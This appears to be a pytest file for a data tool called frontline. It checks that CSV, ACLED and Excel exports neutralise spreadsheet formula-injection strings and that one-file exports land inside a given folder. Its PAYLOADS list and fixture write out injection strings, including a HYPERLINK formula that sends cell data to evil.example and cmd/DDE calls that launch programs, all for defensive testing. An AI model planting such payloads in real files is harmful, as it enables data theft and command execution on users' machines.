"""Trusted under hostile text, damaged stores, full disks and upgrades (issue 11).

Each section is one failure mode, tried through the command line (a
``python -m frontline`` subprocess, with the fake extractor where the real one
is not the point) and, where it applies, through the dashboard's own code:

* spreadsheet payloads in every text field never reach a CSV or Excel cell as a
  formula (one neutraliser, ``frontline.safety.spreadsheet_cell``);
* a damaged or truncated store is reported as damaged, by name, with
  ``restore`` suggested, exit 2, at once (no lock wait);
* control and bidi characters in metadata are cleaned at ingest, with a warning,
  and every export copes with whatever text a store holds;
* ``--out DIR/`` puts a one-file export inside the folder.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

import frontline
from conftest import cli_env, fake_extract, make_article, store_counts
from frontline import export, safety, store
from frontline.models import Article

ROOT = Path(frontline.__file__).resolve().parent.parent
TESTS = Path(__file__).resolve().parent

# python -m frontline with the fake extractor (tests/conftest.py): deterministic, fast
FAKE_CLI = textwrap.dedent("""
    import sys
    sys.path.insert(0, {tests!r})
    from conftest import fake_extract
    import frontline.__main__ as cli
    cli._extractor = lambda: fake_extract
    sys.exit(cli.main(sys.argv[1:]))
""").format(tests=str(TESTS))


def cli(*args, fake: bool = True, env: dict | None = None, timeout: float = 240,
        preexec=None) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-c", FAKE_CLI, *map(str, args)] if fake else \
        [sys.executable, "-m", "frontline", *map(str, args)]
    return subprocess.run(cmd, capture_output=True, text=True, cwd=ROOT, env=cli_env(**(env or {})),
                          timeout=timeout, preexec_fn=preexec)


def one_error_line(r: subprocess.CompletedProcess) -> str:
    """The single ``frontline: error:`` line of a failed command (no traceback)."""
    assert "Traceback" not in r.stderr, r.stderr
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("frontline: error:")]
    assert len(errors) == 1, r.stderr
    return errors[0]


# --------------------------------------------------------------------------- 1. formula injection

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
]


def _payload_corpus(path: Path) -> Path:
    """A generic CSV whose every text field starts with a spreadsheet payload."""
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "title", "text", "source", "published", "url"])
        for i, p in enumerate(PAYLOADS):
            text = (f"{p} {i + 2} people were killed in east Aleppo.\n"
                    f"{p} Kerry met Lavrov with Russia and United States present.")
            w.writerow([f"{p}id{i}" if i < 4 else f"id{i}", p + f" title {i}", text, p + " outlet",
                        "2016-10-13", p])
    return path


FORMULA_CHARS = tuple(safety.FORMULA_START)


def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def formula_cells(rows) -> list:
    """Cells (as read back) that a spreadsheet program would run as a formula."""
    return [c for row in rows for c in row
            if isinstance(c, str) and c.startswith(FORMULA_CHARS) and not _is_number(c)]


def read_csv_cells(path: Path) -> list:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.fixture
def payload_db(tmp_path):
    db = tmp_path / "p.duckdb"
    r = cli("ingest", _payload_corpus(tmp_path / "payloads.csv"), "--db", db)
    assert r.returncode == 0, r.stderr
    conn = store.connect(db)
    try:       # analyst values too: an edited place, an added event
        store.record_review(conn, event_id="id4:i1", kind="incident", action="edit", field="location",
                            new_value="=HYPERLINK(\"http://x\")", who="@analyst")
        store.add_event(conn, "incident", {"event_type": "shelling", "killed": 2, "side": "west",
                                           "location": "+cmd|' /C calc'!A0", "event_date": "2016-10-13",
                                           "evidence": "-1+1 added by hand"}, "=who", article_id="id5")
    finally:
        conn.close()
    return db


def test_spreadsheet_cell_table():
    for p in PAYLOADS:
        assert safety.spreadsheet_cell(p) == "'" + p.replace("\x00", "")
    assert safety.spreadsheet_cell("Aleppo") == "Aleppo"
    assert safety.spreadsheet_cell(-5) == -5 and safety.spreadsheet_cell(-2.5) == -2.5
    assert safety.spreadsheet_cell(None) is None
    assert safety.spreadsheet_cell("a\x00b\x07c") == "abc"
    assert safety.spreadsheet_cell("\x00=1") == "'=1"


def test_csv_exports_neutralise_every_text_cell(payload_db, tmp_path):
    r = cli("export", "--format", "csv", "--out", tmp_path / "csv", "--db", payload_db)
    assert r.returncode == 0, r.stderr
    files = sorted((tmp_path / "csv").glob("*.csv"))
    assert {f.stem for f in files} == set(export.TABLES)
    seen = []
    for f in files:
        rows = read_csv_cells(f)
        assert formula_cells(rows) == [], (f.name, formula_cells(rows)[:5])
        seen += [c for row in rows for c in row]
    # not vacuous: the payloads are there, as text
    assert any(c.startswith("'=HYPERLINK") for c in seen)
    assert any(c.startswith("'+cmd") for c in seen) and any(c.startswith("'@SUM") for c in seen)
    assert any(c.startswith("'\t=1+1") for c in seen)
    # numbers stay numbers
    inc = read_csv_cells(tmp_path / "csv" / "incidents.csv")
    killed = inc[0].index("killed")
    assert {row[killed] for row in inc[1:]} >= {"2", "3"}


def test_acled_csv_neutralises_notes_and_sources(payload_db, tmp_path):
    r = cli("export", "--format", "acled", "--out", tmp_path / "acled.csv", "--db", payload_db)
    assert r.returncode == 0, r.stderr
    rows = read_csv_cells(tmp_path / "acled.csv")
    assert len(rows) > 5
    assert formula_cells(rows) == []
    notes = rows[0].index("notes")
    assert any(row[notes].startswith("'=") for row in rows[1:])


def test_xlsx_neutralises_every_text_cell(payload_db, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    r = cli("export", "--format", "xlsx", "--out", tmp_path / "x.xlsx", "--db", payload_db)
    assert r.returncode == 0, r.stderr
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_CHARS)] == []
    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    assert any(isinstance(c, str) and c.startswith("'=HYPERLINK") for c in cells)


def test_dashboard_csv_downloads_neutralise(payload_db, monkeypatch):
    """The Export page's CSV buttons build their files with the same writer."""
    monkeypatch.setenv("FRONTLINE_DB", str(payload_db))
    sys.path.insert(0, str(ROOT))
    from components import data
    from components import export as page
    from frontline.queries import Filters
    for kind in ("incidents_csv", "diplomacy_csv", "acled"):
        raw = page._build(kind, str(payload_db), data.current_version(str(payload_db)),
                          tuple(sorted(Filters().to_query_params().items())))
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
        assert len(rows) > 2, kind
        assert formula_cells(rows) == [], (kind, formula_cells(rows)[:3])
        assert any(c.startswith("'") for row in rows for c in row), kind


# --------------------------------------------------------------------------- 7. --out DIR/

@pytest.mark.parametrize("fmt, name", [("acled", "acled.csv"), ("xlsx", "frontline.xlsx"),
                                       ("geojson", "incidents.geojson"), ("briefing", "briefing.html")])
@pytest.mark.parametrize("how", ["slash", "existing"])
def test_one_file_formats_write_inside_a_folder(payload_db, tmp_path, fmt, name, how):
    folder = tmp_path / f"out_{fmt}_{how}"
    if how == "existing":
        folder.mkdir()
        target = str(folder)
    else:
        target = str(folder) + "/"
    r = cli("export", "--format", fmt, "--out", target, "--db", payload_db)
    assert r.returncode == 0, r.stderr
    assert folder.is_dir()
    assert (folder / name).is_file() and (folder / name).stat().st_size > 0
    assert r.stdout.strip() == str(folder / name)
